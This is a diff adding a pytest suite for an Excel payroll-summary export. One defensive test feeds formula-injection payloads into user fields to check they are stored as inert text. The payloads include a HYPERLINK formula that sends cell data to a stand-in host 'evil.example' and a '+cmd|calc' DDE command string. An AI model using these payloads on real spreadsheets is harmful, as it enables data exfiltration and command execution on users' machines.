@@ -1,0 +1,247 @@
+"""The Excel summary read back with openpyxl: figures equal ``payroll show --json``, formats, safety."""
+
+from __future__ import annotations
+
+import zipfile
+from collections.abc import Callable
+from datetime import date
+from decimal import Decimal
+from pathlib import Path
+from typing import Any
+
+import openpyxl
+import pytest
+
+from app.reports.summary_xlsx import SummaryInput, line_codes_present, ranking, write_summary
+from app.reports.xlsx_writer import XlsxWriter
+from app.services.errors import ServiceError
+from app.services.payroll import show_month
+from app.services.reports import export_summary
+from db.session import Database
+from tests.reports.conftest import MONTH
+
+SHEETS = ["汇总", "明细", "保单明细", "考勤汇总", "质检汇总", "公示"]
+
+
+def _export(db: Database, path: Path) -> tuple[openpyxl.Workbook, dict[str, Any]]:
+    with db.session_scope() as s:
+        export_summary(s, MONTH, path)
+        data = show_month(s, MONTH)
+    return openpyxl.load_workbook(path), data
+
+
+def _rows(ws: Any) -> list[dict[str, Any]]:
+    rows = list(ws.iter_rows(values_only=True))
+    header = rows[0]
+    return [dict(zip(header, r, strict=True)) for r in rows[1:]]
+
+
+def _dec(value: Any) -> Decimal:
+    return Decimal(str(value)).quantize(Decimal("0.01"))
+
+
+@pytest.fixture(scope="module")
+def exported(
+    example: Database, tmp_path_factory: pytest.TempPathFactory
+) -> tuple[openpyxl.Workbook, dict[str, Any]]:
+    return _export(example, tmp_path_factory.mktemp("xlsx") / "2026-10 汇总.xlsx")
+
+
+def test_sheets_and_summary_match_the_json(exported: tuple[openpyxl.Workbook, dict[str, Any]]) -> None:
+    wb, data = exported
+    assert wb.sheetnames == SHEETS
+    ws = wb["汇总"]
+    rows = _rows(ws)
+    agents = data["agents"]
+    assert len(rows) == len(agents) + 1
+    codes = line_codes_present(agents)
+    header = [c.value for c in ws[1]]
+    assert header[:3] == ["工号", "姓名", "团队"] and header[-3:] == ["应发合计", "扣款合计", "实发金额"]
+    assert header[3:-3] == [
+        "基本工资",
+        "请假扣款",
+        "旷工扣款",
+        "销售提成",
+        "新客户奖励",
+        "绩效考核奖惩",
+        "月度优秀奖",
+        "客户表扬奖",
+        "考勤扣款",
+        "投诉扣款",
+        "质检致命差错扣款",
+    ]  # rulebook order
+    assert len(codes) == len(header) - 6
+    for agent, row in zip(agents, rows, strict=False):
+        assert (row["工号"], row["姓名"], row["团队"]) == (agent["code"], agent["name"], agent["team"])
+        assert _dec(row["实发金额"]) == Decimal(agent["net"])
+        assert _dec(row["应发合计"]) == Decimal(agent["gross"])
+        assert _dec(row["扣款合计"]) == Decimal(agent["deductions"])
+        amounts = {line["label"]: Decimal(line["amount"]) for line in agent["lines"]}
+        for label in header[3:-3]:
+            if label in amounts:
+                assert _dec(row[label]) == amounts[label], (agent["code"], label)
+            else:
+                assert row[label] is None
+    total = rows[-1]
+    assert total["工号"] == "合计"
+    assert _dec(total["实发金额"]) == Decimal(data["totals"]["net"]) == Decimal("14591.91")
+    assert _dec(total["应发合计"]) == Decimal(data["totals"]["gross"])
+    assert _dec(total["扣款合计"]) == Decimal(data["totals"]["deductions"])
+    assert _dec(total["基本工资"]) == sum(
+        Decimal(line["amount"]) for a in agents for line in a["lines"] if line["code"] == "base"
+    )
+
+
+def test_numbers_are_numbers_with_formats_and_the_print_setup(
+    exported: tuple[openpyxl.Workbook, dict[str, Any]],
+) -> None:
+    wb, _ = exported
+    ws = wb["汇总"]
+    net = ws.cell(row=2, column=ws.max_column)
+    assert net.data_type == "n" and net.number_format == "#,##0.00"
+    assert ws.cell(row=ws.max_row, column=ws.max_column).font.bold  # totals row
+    for name in SHEETS:
+        sheet = wb[name]
+        assert sheet.freeze_panes is not None and sheet.freeze_panes.endswith("2"), name
+        assert sheet.print_title_rows == "$1:$1", name
+        assert sheet.page_setup.orientation == "landscape", name
+        assert sheet.page_setup.fitToWidth == 1 and sheet.sheet_properties.pageSetUpPr.fitToPage, name
+        assert sheet.column_dimensions["A"].width >= 7, name
+        assert sheet["A1"].font.bold, name
+    assert wb["汇总"].freeze_panes == "D2"
+    sales = wb["保单明细"]
+    assert sales.cell(row=2, column=11).is_date and sales.cell(row=2, column=11).number_format == "yyyy-mm-dd"
+
+
+def test_detail_sheet_lists_every_line(exported: tuple[openpyxl.Workbook, dict[str, Any]]) -> None:
+    wb, data = exported
+    rows = _rows(wb["明细"])
+    expected = [
+        (a["code"], line["code"], Decimal(line["amount"]), line["detail"])
+        for a in data["agents"]
+        for line in a["lines"]
+    ]
+    assert [(r["工号"], r["项目代码"], _dec(r["金额"]), r["计算说明"]) for r in rows] == expected
+
+
+def test_sales_attendance_and_qa_sheets(exported: tuple[openpyxl.Workbook, dict[str, Any]]) -> None:
+    wb, _ = exported
+    sales = {r["保单号"]: r for r in _rows(wb["保单明细"])}
+    assert len(sales) == 6
+    assert sales["P-1003"]["标准保费"] == 200 and sales["P-1003"]["折标系数"] == pytest.approx(0.1)
+    assert sales["P-1001"]["新客户"] == "是" and sales["P-1001"]["客户等级"] == "VIP"
+    assert sales["P-3002"]["计入本月"] == "否" and sales["P-3002"]["撤单日期"].date() == date(2026, 10, 20)
+    assert sales["P-1002"]["计入本月"] == "是"
+    assert sum(
+        Decimal(str(r["标准保费"])) for r in sales.values() if r["工号"] == "A001" and r["计入本月"] == "是"
+    ) == Decimal("70200")
+
+    attendance = {r["工号"]: r for r in _rows(wb["考勤汇总"])}
+    a3 = attendance["A003"]
+    assert (a3["迟到次数"], a3["迟到分钟"], a3["空岗次数"], a3["旷工天数"]) == (3, 75, 2, 1)
+    assert _dec(a3["考勤扣款"]) == Decimal("-230.00")
+    assert attendance["A002"]["事假天数"] == 1 and attendance["A002"]["在职天数"] == 11
+    assert attendance["A001"]["迟到次数"] == 1
+
+    qa = {r["工号"]: r for r in _rows(wb["质检汇总"])}
+    assert (qa["A001"]["质检次数（有效）"], _dec(qa["A001"]["平均分"]), qa["A001"]["等级"]) == (
+        3,
+        Decimal("91.67"),
+        "A",
+    )
+    assert (qa["A003"]["致命差错"], qa["A003"]["申诉撤销"], qa["A003"]["质检总次数"]) == (1, 1, 3)
+    assert qa["A002"]["平均分"] is None and qa["A002"]["质检次数（有效）"] == 0
+
+
+def test_ranking_for_posting_marks_the_award_and_shows_no_pay(
+    exported: tuple[openpyxl.Workbook, dict[str, Any]],
+) -> None:
+    wb, _ = exported
+    ws = wb["公示"]
+    rows = _rows(ws)
+    assert [(r["名次"], r["工号"]) for r in rows] == [(1, "A001"), (2, "A002"), (3, "A003")]
+    assert rows[0]["月度优秀"] == "★ 月度优秀" and rows[1]["月度优秀"] is None
+    assert ws["B2"].fill.fgColor.rgb.endswith("FFF4D6")
+    headers = [c.value for c in ws[1]]
+    assert not {"实发金额", "应发合计", "基本工资"} & set(headers)
+
+
+def test_equal_scores_share_a_rank() -> None:
+    agents = [
+        {"code": c, "facts": {"kpi_score": s}}
+        for c, s in (("A", "90.00"), ("B", "95.00"), ("C", "90.00"), ("D", None), ("E", "80.00"))
+    ]
+    assert [(r, a["code"]) for r, a in ranking(agents)] == [(1, "B"), (2, "A"), (2, "C"), (4, "E"), (5, "D")]
+
+
+HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
+
+
+def test_user_text_is_never_a_formula(make_example: Callable[..., Database], tmp_path: Path) -> None:
+    agents = (
+        "工号,姓名,岗位,团队,底薪,入职日期\n"
+        f'A001,"{HOSTILE.replace(chr(34), chr(34) * 2)}",电话接听岗,+cmd|calc,4000,2025-03-01\n'
+        "A002,@SUM(1+1),电话回访岗,-2+3,3500,2026-10-16\n"
+        "A003,王五,电话咨诉岗,咨诉三组,4200,2024-01-01\n"
+    )
+    db = make_example(
+        agents_csv=agents, extra={"adjustments": "工号,月份,金额,类别,原因\nA003,2026-10,50,,=1+1\n"}
+    )
+    wb, data = _export(db, tmp_path / "s.xlsx")
+    ws = wb["汇总"]
+    cells = {c.value: c for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
+    for text in (HOSTILE, "+cmd|calc", "@SUM(1+1)", "-2+3"):
+        cell = cells[text]
+        assert cell.data_type == "s", text
+        assert cell.value == text
+        assert cell.quotePrefix, text  # Excel keeps it text even when the cell is edited
+    detail = [c for row in wb["明细"].iter_rows() for c in row if c.value == "=1+1"]
+    assert detail and all(c.data_type == "s" for c in detail)
+    with zipfile.ZipFile(tmp_path / "s.xlsx") as z:
+        assert not any(
+            b"<f>" in z.read(n) or b"<f " in z.read(n) for n in z.namelist() if n.startswith("xl/worksheets")
+        )
+    assert data["agents"][0]["name"] == HOSTILE
+
+
+def test_refused_before_calculation_and_for_a_wrong_suffix(example: Database, tmp_path: Path) -> None:
+    with example.session_scope() as s, pytest.raises(ServiceError) as err:
+        export_summary(s, "2026-09", tmp_path / "x.xlsx")
+    assert "2026-09" in err.value.message
+    with example.session_scope() as s, pytest.raises(ServiceError):
+        export_summary(s, MONTH, tmp_path / "x.csv")
+    assert list(tmp_path.iterdir()) == []
+
+
+def test_failed_save_leaves_the_previous_file(
+    example: Database, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    target = tmp_path / "s.xlsx"
+    target.write_bytes(b"previous")
+
+    def boom(self: XlsxWriter, _target: object) -> None:
+        raise RuntimeError("disk full")
+
+    monkeypatch.setattr(XlsxWriter, "save", boom)
+    with pytest.raises(RuntimeError):
+        write_summary(
+            SummaryInput(month=MONTH, branch_name="x", result={"agents": [], "status": "calculated"}), target
+        )
+    assert target.read_bytes() == b"previous"
+    assert [p.name for p in tmp_path.iterdir()] == ["s.xlsx"]
+
+
+def test_writer_keeps_decimals_exact_and_refuses_floats(tmp_path: Path) -> None:
+    book = XlsxWriter()
+    sheet = book.add_sheet("a/b:c*?[x]" * 5, [("金额", 10, "money"), ("说明", 20, "text")])
+    sheet.row([Decimal("12345678901.23"), "bell\x07 and tab"])
+    sheet.row([Decimal("-0.50"), "长" * 40000])
+    with pytest.raises(TypeError):
+        sheet.row([0.1, "float"])
+    book.save(tmp_path / "w.xlsx")
+    ws = openpyxl.load_workbook(tmp_path / "w.xlsx").worksheets[0]
+    assert len(ws.title) <= 31 and not set("/:*?[]") & set(ws.title)
+    assert ws["A2"].value == pytest.approx(12345678901.23) and ws["B2"].value == "bell and tab"
+    assert ws["A3"].value == -0.5 and len(ws["B3"].value) == 32767  # Excel's cell limit
+    with zipfile.ZipFile(tmp_path / "w.xlsx") as z:
+        assert b"<v>12345678901.23</v>" in z.read("xl/worksheets/sheet1.xml")
